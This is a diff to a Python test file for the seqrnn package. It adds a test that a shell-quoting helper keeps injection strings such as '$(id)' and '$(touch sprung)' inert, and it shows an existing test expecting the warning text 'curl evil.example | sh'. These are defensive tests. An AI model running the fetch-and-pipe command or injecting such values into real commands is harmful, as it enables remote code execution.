@@ -16,7 +16,7 @@ from test_plots import make
 import seqrnn
 from seqrnn.checkpoints import file
 from seqrnn.checkpoints.file import Damaged
-from seqrnn.errors import ConfigError, DataError
+from seqrnn.errors import ConfigError, DataError, shell_quoted
 from seqrnn.reports.gathering import gather
 from seqrnn.reports.writing import write_report
 from seqrnn.rundir.lock import Lock
@@ -142,3 +142,11 @@ def test_the_report_names_what_it_leaves_out_of_the_lines(tmp_path: Path) -> Non
     assert not re.search(r"<code[^>]*>[^<]*(plugins|curl)", page)
     for words in ("plugins=[evil]", "curl evil.example | sh"):
         assert f"add it only if you trust them: {words}<" in page
+
+
+@pytest.mark.parametrize(
+    "word", ["a'\\", "it's", "a'\\\nb", "'$(id)'", "'`id`", "a'\"", "", "'\\\\'", "task.path='a b'"]
+)
+def test_a_quoted_word_is_one_word_of_a_shell(word: str) -> None:
+    words = [word, "$(touch sprung)", "'"]
+    assert shlex.split(" ".join(map(shell_quoted, words))) == words
